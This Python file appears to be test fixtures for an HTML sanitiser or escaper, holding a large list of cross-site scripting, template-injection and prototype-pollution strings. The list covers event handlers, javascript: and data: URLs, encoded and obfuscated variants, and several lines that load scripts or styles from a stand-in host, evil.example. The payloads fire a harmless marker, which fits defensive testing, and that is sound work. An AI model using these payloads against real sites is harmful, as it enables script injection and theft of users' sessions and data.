"""Texts that want to become markup or script: by tags, attributes, addresses, encodings, templates and odd parsing."""

from __future__ import annotations

HIT = "window.__hit=1"

TAGS = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=data:,{0}></script>", "<script/x>{0}</script>",
    "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</style><script>{0}</script>",
    "<img src=x onerror={0}>", "<img src=x onerror='{0}'>", '<img src=x onerror="{0}">', "<img/src=x/onerror={0}>",
    "<IMG SRC=x OnErRoR={0}>", "<img src=x onerror\n={0}>",
    "<img src=x:x onerror=eval(atob('d2luZG93Ll9faGl0PTE='))>", "<image href=x onerror={0}>", "<svg onload={0}>",
    "<svg/onload={0}>", "<svg><script>{0}</script></svg>", "<svg><script href=data:,{0} /></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><a href=javascript:{0}><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{0}</script>'></svg>", "<svg><set onbegin={0}>",
    "<math><mtext></p><img src=x onerror={0}>", "<math href=javascript:{0}>x</math>", "<body onload={0}>",
    "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>parent.{0}</script>'>", "<iframe onload={0}>",
    "<object data=javascript:{0}>", "<object data='data:text/html,<script>parent.{0}</script>'>",
    "<embed src=javascript:{0}>", "<video><source onerror={0}>", "<video src=x onerror={0}>",
    "<audio src=x onerror={0}>", "<video poster=javascript:{0}>", "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>",
    "<button autofocus onfocus={0}>x</button>", "<keygen autofocus onfocus={0}>", "<a href=javascript:{0}>x</a>",
    "<a href='java\tscript:{0}'>x</a>", "<a href='&#106;avascript:{0}'>x</a>",
    "<a href=data:text/html,<script>{0}</script>>x</a>", "<a href='vbscript:x' onclick={0}>x</a>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<form><button formaction=javascript:{0}>x</button></form>", "<isindex action=javascript:{0} type=image>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x>",
    "<link rel=import href=data:text/html,x>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<meta http-equiv=Set-Cookie content=toktonk=x>", "<style>@import '//evil.example/x'</style>",
    "<style>*{{background:url(javascript:{0})}}</style>", "<div style='background:url(javascript:{0})'>",
    "<div style='width:expression({0})'>", "<div onmouseover={0} style='position:fixed;inset:0'>x</div>",
    "<marquee onstart={0}>x</marquee>", "<table background=javascript:{0}>", "<frameset onload={0}>",
    "<p onanimationend={0}>x", "<x contenteditable onblur={0} autofocus tabindex=1>x",
    "<dialog open onclose={0}>x</dialog>", "<slot onslotchange={0}>",
    "<template shadowrootmode=open><img src=x onerror={0}></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<img src=x onerror={0}>]]>", "<?xml version='1.0'?><img src=x onerror={0}>", "<plaintext><script>{0}",
    "<xmp></xmp><img src=x onerror={0}>", "<listing>&lt;img src=x onerror={0}&gt;</listing>",
)  # fmt: skip
OUT_OF_PLACE = (
    '"><script>{0}</script>', "'><script>{0}</script>", '" onmouseover={0} x="', "' onfocus={0} autofocus x='",
    "` onerror={0} `", '"><img src=x onerror={0}>', "'-({0})-'", '"-({0})-"', "';{0}//", '";{0}//', "\\';{0}//",
    "`${{{0}}}`", "${{{0}}}", "{{{{constructor.constructor('{0}')()}}}}", "{{{0}}}", "#{{{0}}}", "<%= {0} %>",
    "{{% {0} %}}", "[[{0}]]", "*{{{0}}}", "javascript:{0}", "JaVaScRiPt:{0}",
    "java\u0000script:{0}".replace("\u0000", "%00"), "data:text/html,<script>{0}</script>", "//evil.example/x.js",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "\\x3cimg src=x onerror={0}\\x3e",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "&#x3c;img src=x onerror={0}&#x3e;",
    "%3Cscript%3E{0}%3C/script%3E", "%253Cscript%253E{0}%253C/script%253E", "＜script＞{0}＜/script＞",
    "‹script›{0}‹/script›", "<scr<script>ipt>{0}</scr</script>ipt>", "<<script>{0}//<</script>",
    "<script>{0}<!--</script>", "</script><svg onload={0}>", ")]}}',{0}", "]]><script>{0}</script>",
    "--><script>{0}</script>", "*/{0}/*", "\\\\\");{0}//", "{0}", "on=x onerror={0}", "<a\u3000href=javascript:{0}>x",
    "<img\u00a0src=x onerror={0}>", "<\u0338script>{0}</script>", "expression({0})", "url('javascript:{0}')",
    "@import'javascript:{0}'", "-moz-binding:url(//evil.example/x)", '{{"__proto__":{{"x":"{0}"}}}}', "{{ $name }}",
    "{{ -brand }}", '{{ "<img src=x onerror={0}>" }}', "{{ NUMBER(1) }}", "msg = <script>{0}</script>",
    "[x](javascript:{0})", "![x](x\" onerror=\"{0})", "<javascript:{0}>", "http://a\"onmouseover={0}//",
    "\u2066<script>".strip("\u2066"),
)  # fmt: skip

# Long ones go into talk, short ones into names: 20 characters are few, but enough for a tag.
TEXTS = tuple(text.format(HIT) for text in (*TAGS, *OUT_OF_PLACE))
NAMES = (
    "<script>hit()", "<b onclick=hit()>x", "<img onerror=hit()>", "<svg/onload=hit()>", '"><svg onload=hit()',
    "'><img src=x>", "<a href=//e.x>x</a>", "</title><svg>", "</script><svg>", "<!--", "-->", "<style>*{}</style>",
    "{{7*7}}", "${hit()}", "`${hit()}`", "{ $name }", "&lt;b&gt;", "&#60;b&#62;", "%3Cscript%3E", "\\u003cb\\u003e",
    "javascript:hit()", "' onfocus=hit() '", '" onblur=hit() "', "<base href=//e.x>", "<iframe src=//e.x>",
    "<object data=x>", "<embed src=x>", "<math><mtext>", "<plaintext>", "<xmp>", "<textarea>", "__proto__",
)  # fmt: skip
